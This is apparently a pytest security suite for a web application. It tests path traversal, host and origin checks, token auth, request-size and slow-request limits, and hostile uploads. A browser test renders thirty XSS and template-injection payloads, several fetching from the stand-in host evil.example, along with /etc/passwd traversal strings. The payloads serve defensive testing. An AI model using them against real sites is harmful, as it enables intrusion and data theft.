"""The web list of trust.md, tried on every address that the server has.

Source: trust.md, "Bad inputs", "Web", "Page" and "Decks".
"""

from __future__ import annotations

import asyncio
import socket
from collections.abc import Callable, Iterator, MutableMapping
from contextlib import ExitStack
from dataclasses import replace
from http.client import HTTPConnection
from pathlib import Path
from typing import Any

import pptx
import pytest
from starlette.testclient import TestClient

from orchestrator.material.deck.limits import DEFAULT_LIMITS
from orchestrator.web import security
from orchestrator.web.security import MAX_HEADER_BYTES, Security
from orchestrator.web.server import HEAD_WITHIN_S, application
from orchestrator.web.site import Site
from tests.helpers.figures import note
from tests.web.browser import UNFOLD, chromium
from tests.web.conftest import Served

OWN = {
    "session": "s1",
    "agent": "skeptic",
    "path": "shared/deck-content.md",
    "number": "1",
    "deck": "0" * 64,
    "kind": "speech",
    "material": "0" * 64,
    "memory": "m000000000000",
    "goal": "g000000000000",
    "exchange": "x1",
    "turn": "1",
}
"""A value of each path parameter that is in order."""

OUTSIDE = (
    "../../../../../../etc/passwd",
    "..",
    "/etc/passwd",
    "..\\..\\etc\\passwd",
    "．．/．．/etc/passwd",
    "....//....//etc/passwd",
    "s1\n",
    "s1\0",
    "-rf",
    "x" * 65,
)


def once(name: str) -> str:
    return "".join(f"%{byte:02x}" for byte in name.encode())


def twice(name: str) -> str:
    return once(name).replace("%", "%25")


def addresses(client: TestClient) -> Iterator[tuple[str, str]]:
    """Method and path template of every route that is described, and of the pages."""
    for path, methods in client.get("/api/v1/openapi.json").json()["paths"].items():
        for method in methods:
            yield method.upper(), path
    for path in ("/", "/new", "/room/{session}"):
        yield "GET", path


def filled(address: str, **values: str) -> str:
    for name, value in {**OWN, **values}.items():
        address = address.replace(f"{{{name}}}", value)
    return address


@pytest.mark.parametrize("encoded", [once, twice])
def test_no_path_parameter_leads_out_of_its_folder(
    api: TestClient, session: str, encoded: Callable[[str], str]
) -> None:
    for method, path in addresses(api):
        for name in (name for name in OWN if f"{{{name}}}" in path):
            for outside in OUTSIDE:
                answer = api.request(method, filled(path, **{name: encoded(outside)}))
                assert 400 <= answer.status_code < 500, (method, path, outside)
                assert "root:" not in answer.text
    assert api.get(f"/api/v1/sessions/{session}/verify").json()["valid"]


@pytest.mark.parametrize("host", ["evil.example", "127.0.0.1.evil.example", "evil.example:8716", "", "[::2]"])
def test_a_foreign_name_reaches_nothing(api: TestClient, host: str) -> None:
    let_in = [
        (method, path)
        for method, path in addresses(api)
        if api.request(method, filled(path), headers={"host": host}).status_code != 421
    ]
    note("page", "foreign hosts, each on every address", count=1, wrong=int(bool(let_in)))
    assert let_in == []


@pytest.mark.parametrize(
    "headers",
    [
        {"origin": "http://evil.example"},
        {"origin": "null"},
        {"origin": "http://127.0.0.1:1"},
        {"origin": "file://"},
        {"sec-fetch-site": "cross-site"},
        {"sec-fetch-site": "same-site"},
    ],
)
def test_a_foreign_page_changes_nothing(api: TestClient, headers: dict[str, str]) -> None:
    let_in = [
        (method, path)
        for method, path in addresses(api)
        if method != "GET" and api.request(method, filled(path), headers=headers).status_code != 403
    ]
    note(
        "page",
        "foreign pages, each on every address that changes something",
        count=1,
        wrong=int(bool(let_in)),
    )
    assert let_in == []


def test_without_the_token_nothing_is_shown(site: Site) -> None:
    with TestClient(application(replace(site, token="t" * 43)), base_url="http://127.0.0.1") as client:
        own = {"authorization": "Bearer " + "t" * 43}
        described = client.get("/api/v1/openapi.json", headers=own).json()["paths"]
        for open_to_load_balancers in ("/api/v1/health", "/api/v1/health/ready"):
            assert described.pop(open_to_load_balancers).keys() == {"get"}
        for path, methods in described.items():
            for method in methods:
                for shown in (
                    {},
                    {"authorization": "Bearer t"},
                    {"cookie": "greenroom-80=t"},
                    {"cookie": "=;;"},
                ):
                    answer = client.request(method, filled(path), headers=shown)
                    assert answer.status_code == 401, (method, path)


def test_no_other_method_is_taken(api: TestClient) -> None:
    known: dict[str, set[str]] = {}
    for method, path in addresses(api):
        known.setdefault(filled(path), set()).add(method)
    for path, methods in known.items():
        for method in {"GET", "POST", "PUT", "PATCH", "DELETE", "TRACE", "OPTIONS", "PROPFIND"} - methods:
            if not any(method in other for one, other in known.items() if one == path):
                assert api.request(method, path).status_code == 405, (method, path)


def test_a_header_beyond_the_bound_is_refused(serve: Callable[..., Served]) -> None:
    sender = HTTPConnection(serve().url.removeprefix("http://"), timeout=30)
    sender.request("GET", "/api/v1/health", headers={"x-long": "x" * 2 * MAX_HEADER_BYTES})
    assert sender.getresponse().status in (400, 431)
    sender.close()


@pytest.mark.slow
def test_a_head_that_does_not_come_ends_the_connection(serve: Callable[..., Served]) -> None:
    host, _, port = serve().url.removeprefix("http://").partition(":")
    begun = b"GET /api/v1/health HTTP/1.1\r\nhost: 127.0.0.1\r\n"
    with ExitStack() as opened:
        senders = [
            opened.enter_context(socket.create_connection((host, int(port)), timeout=5 * HEAD_WITHIN_S))
            for _ in range(3)
        ]
        # Nothing; a part; and a part behind a request that is answered.
        for sender, first in zip(senders, (b"", begun, begun + b"\r\n" + begun), strict=True):
            sender.sendall(first)
        for sender in senders:
            while sender.recv(65_536):
                pass


@pytest.mark.parametrize("path", ["/api/v1/goals", "/api/v1/decks"])
def test_a_body_whose_length_is_not_told_is_bounded_all_the_same(
    api: TestClient, monkeypatch: pytest.MonkeyPatch, path: str
) -> None:
    monkeypatch.setattr(security, "MAX_BODY_BYTES", 10_000)
    kind = "application/json" if path == "/api/v1/goals" else "multipart/form-data; boundary=x"
    start = b"[" if path == "/api/v1/goals" else b'--x\r\ncontent-disposition: form-data; name="deck"\r\n\r\n'
    pieces = (start, *[b" " * 1000] * 20)
    answer = api.post(path, content=iter(pieces), headers={"content-type": kind})
    assert (answer.status_code, answer.json()["code"]) == (413, "request_entity_too_large")


@pytest.mark.parametrize("length", ["-1", "1e3", "²", "99999999999999999999", "0x10"])
def test_a_length_that_is_none_is_refused(api: TestClient, length: str) -> None:
    answer = api.post("/api/v1/goals", headers={b"content-length": length.encode("utf-8")}, content=b"")
    assert answer.status_code in (400, 413)


def test_a_body_that_trickles_is_given_up(site: Site) -> None:
    app = Security(application(site), site, body_within_s=0.2)
    sent: list[MutableMapping[str, Any]] = []

    async def receive() -> MutableMapping[str, Any]:
        await asyncio.sleep(0.02)
        return {"type": "http.request", "body": b" ", "more_body": True}

    async def send(message: MutableMapping[str, Any]) -> None:
        sent.append(message)

    headers = {"host": "127.0.0.1", "content-type": "application/json", "transfer-encoding": "chunked"}
    scope = {
        "type": "http",
        "method": "POST",
        "path": "/api/v1/goals",
        "raw_path": b"/api/v1/goals",
        "query_string": b"",
        "root_path": "",
        "scheme": "http",
        "http_version": "1.1",
        "server": ("127.0.0.1", 80),
        "client": ("127.0.0.1", 1),
        "headers": [(name.encode(), value.encode()) for name, value in headers.items()],
    }
    asyncio.run(app(scope, receive, send))
    assert sent[0]["status"] == 408
    assert (b"connection", b"close") in sent[0]["headers"]


@pytest.mark.slow
def test_a_hostile_deck_gets_one_clear_problem_and_leaves_nothing(
    api: TestClient, site: Site, shared: Path
) -> None:
    assert DEFAULT_LIMITS.wall_s <= 10
    taken = 0
    for file in sorted((shared / "hostile").iterdir()):
        answer = api.post("/api/v1/decks", files={"deck": (file.name, file.read_bytes())})
        if answer.status_code == 201:
            taken += 1
            continue
        assert answer.status_code == 422, file.name
        detail = answer.json()["detail"]
        assert detail.startswith(file.name), file.name
        assert "\n" not in detail
        assert "/tmp" not in detail
        assert "Traceback" not in detail
    folder = Path(site.uploads._folder.name)
    assert taken
    assert len(list(folder.iterdir())) <= min(taken, 20)


# ------------------------------------------------------------------ in a real browser

RUN = "window.__ran=1;fetch('http://evil.example/ran')"
SCRIPTS = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>import 'http://evil.example/x.js'</script>",
    f'<img src=x onerror="{RUN}">',
    "<img src=http://evil.example/pixel>",
    f'"><img src=x onerror="{RUN}">',
    f'\'><img src=x onerror="{RUN}">',
    f'" onmouseover="{RUN}" x="',
    f'" autofocus onfocus="{RUN}" x="',
    f'<svg onload="{RUN}">',
    f"<svg><script>{RUN}</script></svg>",
    '<svg><use href="http://evil.example/x.svg#a"></use></svg>',
    '<iframe src="http://evil.example"></iframe>',
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'<a href="javascript:{RUN}">press</a>',
    f"[press](javascript:{RUN})",
    "![picture](http://evil.example/pixel)",
    f'<details open ontoggle="{RUN}">',
    f'<body onload="{RUN}">',
    f'<input autofocus onfocus="{RUN}">',
    f'<video><source onerror="{RUN}"></video>',
    '<link rel=stylesheet href="http://evil.example/x.css">',
    "<style>@import 'http://evil.example/x.css';</style>",
    '<meta http-equiv=refresh content="0;url=http://evil.example">',
    '<base href="http://evil.example/">',
    '<object data="http://evil.example/x"></object>',
    "{{7*7}}{% raw %}${7*7}<%= 7*7 %>",
)


def deck_of_scripts(file: Path) -> Path:
    """A slide for each of them, as title and line: PowerPoint, because Markdown takes tags for its own."""
    made = pptx.Presentation()
    for number, script in enumerate(SCRIPTS):
        slide = made.slides.add_slide(made.slide_layouts[1])
        slide.shapes.title.text = script
        slide.placeholders[1].text = f"{script}\nRevenue {script} is EUR {number} million in 2026"
    made.save(str(file))
    return file


@pytest.mark.slow
def test_nothing_that_a_session_holds_runs_in_a_page(serve: Callable[..., Served], tmp_path: Path) -> None:
    assert len(SCRIPTS) == 30
    served = serve()
    deck = deck_of_scripts(tmp_path / "deck.pptx")
    with chromium() as browser, served.client() as client:
        page = browser.new_page()
        outside: list[str] = []
        blocked: list[str] = []

        def route(one: Any) -> None:
            if one.request.url.startswith((served.url + "/", "data:", "blob:")):
                one.continue_()
            else:
                outside.append(one.request.url)
                one.abort()

        page.route("**/*", route)
        page.on("dialog", lambda dialog: blocked.append(dialog.message))
        page.on(
            "console", lambda said: blocked.append(said.text) if "Content Security" in said.text else None
        )

        page.goto(f"{served.url}/new")
        page.set_input_files("input[type=file]", deck)
        page.wait_for_selector("#slides > *", state="attached")
        page.evaluate(UNFOLD)
        shown = page.inner_text("#understood")
        assert [script for script in SCRIPTS if script not in shown] == []
        assert page.evaluate("window.__ran") is None

        sent = client.post("/api/v1/decks", files={"deck": (deck.name, deck.read_bytes())}).json()["deck"]
        options = {"deck": sent, "id": "s1", "presenter": SCRIPTS[6][:80], "focus": SCRIPTS[:3]}
        begun = client.post("/api/v1/sessions", json=options)
        assert begun.status_code == 201, begun.text
        page.goto(f"{served.url}/room/s1")
        page.wait_for_selector("#panel li")
        for number, script in enumerate(SCRIPTS, start=1):
            client.put("/api/v1/sessions/s1/slide", json={"slide": number})
            said = {"text": f"{script} is 4 million", "speaker": script}
            assert client.post("/api/v1/sessions/s1/segments", json=said).status_code == 200
            if number % 10 == 0:
                page.wait_for_function(
                    "number => document.querySelector('#slide-name').textContent.includes(number)",
                    arg=str(number),
                )
        client.post("/api/v1/sessions/s1/ask", json={})
        page.wait_for_selector("#question:not([hidden])")
        for script in SCRIPTS[:6]:
            client.post("/api/v1/sessions/s1/answer", json={"text": f"{script} {SCRIPTS[7]}"})
            client.post("/api/v1/sessions/s1/ask", json={})
        page.wait_for_function("text => document.body.innerText.includes(text)", arg=SCRIPTS[-1][:7])
        ran = page.evaluate("window.__ran")
        made = page.evaluate("document.querySelectorAll('iframe, object, base, meta[http-equiv]').length")
    wrong = len(outside) + len(blocked) + int(ran is not None) + made
    note("page", "script-injection strings in a browser", count=len(SCRIPTS), wrong=wrong)
    assert (ran, made, outside, blocked) == (None, 0, [], [])
